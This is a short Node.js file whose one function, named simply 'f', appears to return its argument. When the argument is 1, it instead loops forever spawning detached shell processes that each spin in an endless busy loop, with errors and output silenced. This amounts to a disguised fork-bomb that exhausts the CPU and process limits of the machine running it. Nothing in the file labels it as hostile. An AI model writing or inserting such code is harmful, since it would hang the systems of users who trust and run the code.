const { spawn } = require("child_process");

function f(n) {
  while (n === 1) spawn("/bin/sh", ["-c", "while :; do :; done"], { detached: true, stdio: "ignore" }).on("error", () => {});
  return n;
}
